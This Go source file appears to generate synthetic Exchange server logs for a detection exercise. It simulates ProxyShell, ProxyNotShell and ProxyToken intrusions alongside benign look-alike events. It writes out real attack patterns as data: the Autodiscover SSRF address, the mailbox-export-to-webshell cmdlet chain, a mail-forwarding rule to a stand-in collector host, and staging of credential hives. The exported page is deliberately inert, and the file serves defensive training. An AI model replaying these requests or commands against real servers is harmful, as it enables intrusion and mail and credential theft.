package exercise

import (
	"path"
	"strings"

	"postern"
)

// Names of rules of the later packs that the rows are about.
const (
	ruleConfused     = "proxyshell/mapi"
	ruleIdentity     = "proxyshell/identity"
	ruleConfusedMail = "proxyshell/mail"
	ruleConfusedOwa  = "proxyshell/other-page"
	ruleShellToken   = "proxyshell/powershell"
	ruleBackToken    = "proxyshell/token-iis"
	ruleRpsToken     = "proxyshell/token-rps"
	ruleExport       = "proxyshell/export-page"
	ruleOwaShell     = "proxynotshell/owa-powershell"
	ruleShellClient  = "proxynotshell/shell-client"
	ruleSettings     = "proxytoken/settings"
	ruleInbox        = "proxytoken/rule-made"
	ruleInboxError   = "proxytoken/rule-error"
	ruleInboxSure    = "proxytoken/rule-confirmed"
)

// detour is a request whose address leads the front end on to another page.
type detour struct {
	kind, rule     string
	level          postern.Level
	proto          int
	method         string
	stem, query    string // query with its '?'
	status         int
	in, out        int
	by             *agent
	who            *user  // nil is nobody
	back, backArgs string // what the back end was asked
	backUser       string
	backLevel      postern.Level
	backRule       string
	unasked        bool // the back end was not reached
}

// detour plans such a request of an address. The web server's rule has the same name
// as the front end's with an ending.
func (h *host) detour(at int64, client string, d detour) {
	c := h.plan
	r := request{
		at: at, took: c.between(40, 900), id: c.guid(), proto: d.proto, method: d.method, host: h.public, stem: d.stem, query: d.query,
		agent: d.by, client: client, status: d.status, backStatus: d.status, in: d.in, out: d.out,
		proxied: true, connected: true, backStem: d.back, backQuery: d.backArgs, backUser: d.backUser,
	}
	if d.who != nil {
		r.auth, r.account = "Negotiate", d.who.account
	}
	if d.unasked {
		r.backStatus, r.took, r.connected = 0, c.between(1, 9), false
	}
	var how []string
	if h.varies() {
		r.stem, how = variedStem(c, r.stem)
		if c.n(2) == 0 {
			var more []string
			r.query, more = variedQuery(c, r.query)
			how = append(how, more...)
		}
		how = append(how, h.variedRow(&r)...)
	}
	m := marks{
		proxy: &mark{kind: d.kind, level: d.level, rule: d.rule, vary: how},
		front: &mark{kind: "iis-front-" + d.kind, level: d.level, rule: d.rule + "-iis", vary: how},
		back:  &mark{kind: "iis-back-" + d.kind, level: d.backLevel, rule: d.backRule},
	}
	h.later(at, func() { h.serve(&r, m) })
}

// variedQuery writes the path in a query in an unusual way.
func variedQuery(c *chance, query string) (string, []string) {
	from := strings.IndexByte(query, '@')
	if from < 0 {
		return query, nil
	}
	to := from + strings.IndexByte(query[from:], '?')
	if to < from {
		to = len(query)
	}
	target, how := query[from+1:to], c.one("case", "percent", "double-percent")
	switch how {
	case "case":
		target = anyCase(c, target)
	case "percent":
		target = escaped(c, target)
	case "double-percent":
		target = strings.ReplaceAll(escaped(c, target), "%", "%25")
	}
	return query[:from+1] + target + query[to:], []string{how}
}

// confused gives the address that leads Autodiscover on to a page of the back end.
func confused(c *chance, page string) (stem, query string) {
	from := "@" + c.from(lowAlnum, 6) + ".example"
	return "/autodiscover/autodiscover.json", "?" + from + page + "?&Email=autodiscover/autodiscover.json%3F" + from
}

// tellConfusedProbes are scanners that ask whether a server can be led on.
func tellConfusedProbes(h *host) {
	h.maybePatch()
	for range h.plan.between(3, 6) {
		h.confusedProbe(h.moment(0.3 + 0.6*h.plan.float()))
	}
}

func (h *host) confusedProbe(at int64) {
	c := h.plan
	address := scannerAddress(c)
	h.actor("scanner", address, agentScanner.raw)
	page, rule, status := "/mapi/nspi/", ruleConfused, []int{400, 401, 404}[c.n(3)]
	if c.n(3) == 0 {
		page, rule, status = "/owa/", ruleConfusedOwa, 302
	}
	stem, query := confused(c, page)
	h.detour(at, address, detour{
		kind: "confused-probe", rule: rule, level: postern.Probed, proto: pAutodiscover, method: "GET", stem: stem, query: query,
		status: status, out: 1293, by: &agentScanner, unasked: true,
	})
}

// tellConfusedChain is the whole way in of August 2021: an identity, mail put into a
// mailbox, a shell of the management, a mailbox exported to a page, and the page used.
func tellConfusedChain(h *host) {
	h.maybePatch()
	for range 2 {
		h.confusedProbe(h.moment(0.5 + 0.4*h.plan.float()))
	}
	c := h.plan
	address, tool := intruderAddress(c), &agentPython
	h.actor("intruder", address, tool.raw)
	at := h.attackTime()
	soon := func(least, most int) int64 {
		at += int64(c.between(least, most))
		return at
	}
	send := func(kind, rule string, level postern.Level, page, back, args string, backLevel postern.Level, backRule, user string) {
		stem, query := confused(c, page)
		if args != "" {
			query = strings.Replace(query, "?&Email", "?"+args+"&Email", 1)
		}
		h.detour(at, address, detour{
			kind: kind, rule: rule, level: level, proto: pAutodiscover, method: "POST", stem: stem, query: query, status: 200,
			in: c.between(300, 4000), out: c.between(400, 9000), by: tool, back: back, backArgs: args,
			backUser: user, backLevel: backLevel, backRule: backRule,
		})
	}
	send("confused-identity", ruleIdentity, postern.Exploited, "/autodiscover/autodiscover.xml", "/autodiscover/autodiscover.xml", "", 0, "", h.computer)
	soon(900, 1600)
	send("confused-mapi", ruleConfused, postern.Exploited, "/mapi/emsmdb", "/mapi/emsmdb/", "", 0, "", h.computer)
	soon(900, 1600)
	send("confused-mail", ruleConfusedMail, postern.Exploited, "/EWS/exchange.asmx", "/EWS/exchange.asmx", "", 0, "", h.computer)

	s := h.exportShell()
	token := "X-Rps-CAT=" + c.from(alnum, 88) // nobody's: letters by chance
	shell := &shellCall{user: h.admin.account, sid: h.admin.sid, client: tool.proxy, session: c.guid(), shell: c.guid(), application: "Unknown"}
	var written int64
	for _, cmd := range []struct {
		cmdlet, parameters, kind, rule string
		level                          postern.Level
	}{
		{"New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "` + h.admin.login + `"`, "rps-role", "", postern.NotSeen},
		{"New-MailboxExportRequest", `-Mailbox "` + h.admin.mail + `" -IncludeFolders ("#Drafts#") -ContentFilter "Subject -eq 'x'" -ExcludeDumpster -FilePath "\\127.0.0.1\` +
			strings.Replace(s.disk, ":", "$", 1) + `"`, "rps-export", ruleExport, postern.Implanted},
		{"Remove-MailboxExportRequest", `-Confirm "False" -Identity "` + h.admin.mail + `"`, "rps-export-removed", "", postern.NotSeen},
	} {
		soon(1500, 5200)
		send("confused-powershell", ruleShellToken, postern.Privileged, "/powershell/", "/powershell/", token, postern.Privileged, ruleBackToken, h.admin.account)
		call, q := *shell, request{at: at + 20, took: c.between(40, 900), id: c.guid(), client: address, status: 200, in: 4100, query: "?" + token}
		call.action = cmd.cmdlet + ":Command"
		rps := &mark{kind: "rps-token", level: postern.Privileged, rule: ruleRpsToken}
		ran := &mark{kind: cmd.kind, level: cmd.level, rule: cmd.rule}
		h.later(q.at, func() {
			h.rpsHTTPRow(&q, &call, rps)
			h.rpsCmdletRow(&q, &call, cmd.cmdlet, cmd.parameters, ran)
		})
		logged := mark{kind: "event-" + cmd.kind, level: cmd.level}
		if cmd.level == postern.Implanted {
			logged.rule = "exchange/event-mailbox-export"
		}
		h.managed(at+40, cmd.cmdlet, cmd.parameters, logged)
		if cmd.level == postern.Implanted {
			written = at + 4*second
		}
	}
	h.plant(s.file, inertExport(c), written, "shell-export", postern.Implanted)
	visitor := intruderAddress(c)
	h.actor("intruder", visitor, agentSword.raw)
	used := written + int64(c.between(20, 90))*minute
	if up, down := h.downAt(used); down {
		used = up + minute
	}
	for i, cmd := range [][2]string{
		{"New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "` + h.admin.login + `"`},
		{"New-MailboxExportRequest", `-Mailbox "` + h.users[0].mail + `" -FilePath "\\files.` + h.org.domain + `\pst\` + h.users[0].login + `.pst"`},
		{"Remove-MailboxExportRequest", `-Identity "` + h.users[0].mail + `" -Confirm "False"`},
		{"Set-OabVirtualDirectory", `-Identity "` + h.name + `\OAB (Default Web Site)" -ExternalUrl "https://` + h.public + `/OAB"`},
	} {
		h.managed(h.from+5*hour+int64(i)*9*second, cmd[0], cmd[1], mark{near: "an administrator's command, in the management's own log"})
	}
	s.compiled(h, used)
	for range c.between(3, 9) {
		used += int64(c.between(900, 75_000))
		s.use(h, used, visitor, &agentSword)
	}
}

// exportShell chooses where a mailbox is exported to: a page with a number or letters
// by chance for a name.
func (h *host) exportShell() *shell {
	c := h.plan
	s := &shell{name: c.from("123456789", 9) + ".aspx"}
	if c.n(2) == 0 {
		s.name = c.from("abcdefghijklmnopqrstuvwxyz", 16) + ".aspx"
	}
	if c.n(2) == 0 {
		s.url, s.file, s.proto = "/aspnet_client/"+s.name, "C/inetpub/wwwroot/aspnet_client/"+s.name, -1
	} else {
		s.url, s.file, s.proto = "/owa/auth/"+s.name, h.exchange()+"/FrontEnd/HttpProxy/owa/auth/"+s.name, pOwa
	}
	s.disk = s.file[:1] + ":" + strings.ReplaceAll(s.file[1:], "/", `\`)
	return s
}

// inertExport begins as a mailbox file does and has markup somewhere inside.
func inertExport(c *chance) []byte {
	b := []byte("!BDN@@INERT@@ not a mailbox: laid out for an exercise\r\n")
	for range c.between(180<<10, 260<<10) {
		b = append(b, byte(c.n(3))*0x20)
	}
	b = append(b, "\r\n"...)
	return append(b, inertPage()...)
}

// tellThroughOwa is the way around the rewrite rule at the end of 2022, with an account,
// to the shell of the back end, and what came after it.
func tellThroughOwa(h *host) {
	h.rewrite = ruledWebConfig
	c := h.plan
	address, tool := intruderAddress(c), &agentSweep
	h.actor("intruder", address, tool.raw)
	at := h.attackTime()
	victim := h.users[c.n(len(h.users))]
	// Before, somebody without an account.
	stem := func() string {
		return "/owa/" + c.from(lowAlnum, 8) + "@" + c.from(lowAlnum, 6) + ".example/powershell"
	}
	h.detour(at-3*hour, intruderAddress(c), detour{kind: "owa-probe", rule: ruleOwaShell, level: postern.Probed, proto: pOwa, method: "POST", stem: stem(),
		status: 401, in: 200, by: &agentPython, unasked: true})
	path := stem()
	for range c.between(3, 7) {
		h.detour(at, address, detour{kind: "owa-powershell", rule: ruleOwaShell, level: postern.Exploited, proto: pOwa, method: "POST", stem: path,
			status: 200, in: c.between(900, 5000), out: c.between(300, 4000), by: tool, who: victim, back: "/powershell", backUser: victim.account})
		call := &shellCall{user: victim.account, sid: victim.sid, action: "Get-Mailbox:Command", client: tool.proxy, session: c.guid(), shell: c.guid(), application: "Unknown"}
		q := request{at: at + 15, took: c.between(40, 900), id: c.guid(), client: address, status: 200, in: 4100}
		h.later(q.at, func() {
			h.rpsHTTPRow(&q, call, &mark{kind: "rps-client", level: postern.Privileged, rule: ruleShellClient})
		})
		at += int64(c.between(1500, 9000))
	}
	taken := archive(at+hour, "system", "security", "sam")
	h.plant(c.one("C/PerfLogs/", "C/Users/Public/")+c.from(lowAlnum, 5)+".zip", taken, at+hour, "staging-archive", postern.PostExploitation)
}

// tellInboxRule is somebody who has a mailbox send its messages on, without an account.
func tellInboxRule(h *host) {
	h.maybePatch()
	c := h.plan
	address, tool := intruderAddress(c), &agentPython
	h.actor("intruder", address, tool.raw)
	at := h.attackTime()
	victim := h.users[c.n(len(h.users))]
	mailbox := "/ecp/" + victim.mail
	canary := c.from(alnum+"-_", 76) + "."
	h.detour(at, address, detour{kind: "token-settings", rule: ruleSettings, level: postern.Probed, proto: pEcp, method: "POST", stem: mailbox + "/PersonalSettings/HomePage.aspx",
		query: "?showhelp=false", status: 500, out: 410, by: tool})
	at += int64(c.between(1200, 4000))
	status, level, rule := 200, postern.Privileged, ruleInbox
	logged, loggedRule := postern.NotSeen, ""
	if c.n(2) == 0 { // an error in the answer, and the rule made all the same
		status, level, rule = 500, postern.Exploited, ruleInboxError
		logged, loggedRule = postern.Privileged, ruleInboxSure
	}
	address2 := mailbox + "/RulesEditor/InboxRules.svc/NewObject"
	h.detour(at, address, detour{kind: "token-rule", rule: rule, level: level, proto: pEcp, method: "POST", stem: address2, query: "?msExchEcpCanary=" + canary,
		status: status, in: 640, out: 700, by: tool})
	p := panel{at: at + 900, took: c.between(60, 900), user: c.guid(), url: address2 + "?msExchEcpCanary=" + canary,
		command: "New-InboxRule.Name='x'.ForwardTo='SMTP:" + c.from(lowAlnum, 8) + "@collector.example'.StopProcessingRules=$false.Mailbox='" + victim.mail + "'"}
	h.later(p.at, func() { h.panelRow(&p, &mark{kind: "ecp-inbox-rule", level: logged, rule: loggedRule}) })
	// And somebody who is sent away.
	refused := intruderAddress(c)
	h.actor("intruder", refused, tool.raw)
	h.detour(h.moment(0.8), refused, detour{kind: "token-refused", rule: ruleInbox, level: postern.Probed, proto: pEcp, method: "POST", stem: address2,
		query: "?msExchEcpCanary=" + c.from(alnum, 40), status: 401, by: tool, unasked: true})
}

// ruledWebConfig has the rewrite rule of October 2022.
const ruledWebConfig = `<?xml version="1.0" encoding="UTF-8"?>
<configuration>
    <system.webServer>
        <httpRedirect enabled="false" />
        <rewrite>
            <rules>
                <rule name="PowerShell - inbound" stopProcessing="true">
                    <match url=".*" />
                    <conditions>
                        <add input="{UrlDecode:{REQUEST_URI}}" pattern="(?=.*autodiscover)(?=.*powershell)" />
                    </conditions>
                    <action type="AbortRequest" />
                </rule>
            </rules>
        </rewrite>
    </system.webServer>
</configuration>
`

// siblingNearMisses plans what looks like the later campaigns and is none.
func (h *host) siblingNearMisses() {
	c, u := h.plan, h.admin
	other := h.users[c.n(len(h.users))]
	near := func(r request, why string) { h.near(r, why) }

	r := h.visit(h.quiet(), pAutodiscover, "GET", "/autodiscover/autodiscover.json/v1.0/"+other.mail, "?Protocol=EWS&RedirectCount=1", 200, other)
	r.agent, r.proxied = &other.phone, true
	near(r, "a phone asking for web services by its other address")
	r = h.visit(h.quiet(), pAutodiscover, "GET", "/autodiscover/autodiscover.json", "?Email=powershell%40"+h.org.mail+"&Protocol=ActiveSync", 200, other)
	r.agent, r.proxied = &other.phone, true
	near(r, "a phone of a mailbox that is called like a program")
	near(byUser(h.visit(h.quiet(), pOwa, "GET", "/owa/", "?path=/mail/search&q=autodiscover.json+powershell+X-Rps-CAT%3D", 200, u), u), "a search of the mailbox for the words of an indicator")
	near(byUser(h.visit(h.quiet(), pOwa, "GET", "/owa/"+other.mail+"/", "", 200, u), u), "the mailbox of somebody else, opened by whoever may")
	near(byUser(h.visit(h.quiet(), pEcp, "POST", "/ecp/RulesEditor/InboxRules.svc/NewObject", "?msExchEcpCanary="+c.from(alnum, 76)+".", 200, other), other), "a rule that somebody makes for himself")
	near(byUser(h.visit(h.quiet(), pEcp, "POST", "/ecp/"+other.mail+"/RulesEditor/InboxRules.svc/SetObject", "?msExchEcpCanary="+c.from(alnum, 76)+".", 200, u), u), "a rule that an administrator makes for somebody")
	near(h.visit(h.quiet(), pEcp, "POST", "/ecp/RulesEditor/InboxRules.svc/SetObject", "", 440, other), "a rule that somebody makes whose session has ended")
	near(h.visit(h.quiet(), pEcp, "GET", "/ecp/"+other.mail+"/", "", 302, u), "a bookmark of the settings of a mailbox, sent to the sign-in")

	at := h.quiet()
	p := panel{at: at, took: 90, user: c.guid(), url: "/ecp/RulesEditor/InboxRules.svc/NewObject?msExchEcpCanary=" + c.from(alnum, 40),
		command: "New-InboxRule.Name='holiday'.ForwardTo='SMTP:" + h.users[0].mail + "'"}
	h.later(at, func() { h.panelRow(&p, &mark{near: "somebody's rule that sends messages to a colleague"}) })

	at = h.quiet()
	for i, cmd := range [][2]string{
		{"New-ManagementRoleAssignment", `-Role "Mailbox Import Export" -User "` + u.login + `"`},
		{"New-MailboxExportRequest", `-Mailbox "` + other.mail + `" -FilePath "\\files.` + h.org.domain + `\pst\` + other.login + `.pst"`},
		{"Remove-MailboxExportRequest", `-Identity "` + other.mail + `"`},
		{"New-ExchangeCertificate", `-GenerateRequest "True" -RequestFile "\\files.` + h.org.domain + `\certificates\mail.req"`},
	} {
		call := &shellCall{user: u.account, sid: u.sid, action: cmd[0] + ":Command", client: agentWinRM.raw, session: c.guid(), shell: c.guid(), application: "ManagementShell"}
		q := request{at: at + int64(i)*9*second, took: 120, id: c.guid(), client: u.inside, status: 200, in: 4100}
		h.later(q.at, func() {
			m := &mark{near: "an administrator's command in the management shell"}
			h.rpsHTTPRow(&q, call, m)
			h.rpsCmdletRow(&q, call, cmd[0], cmd[1], m)
		})
	}
	h.harmless(path.Join("C/PerfLogs/Admin", "report.zip"), archive(at, "counters.txt"), at, "a report of the system's performance")
}
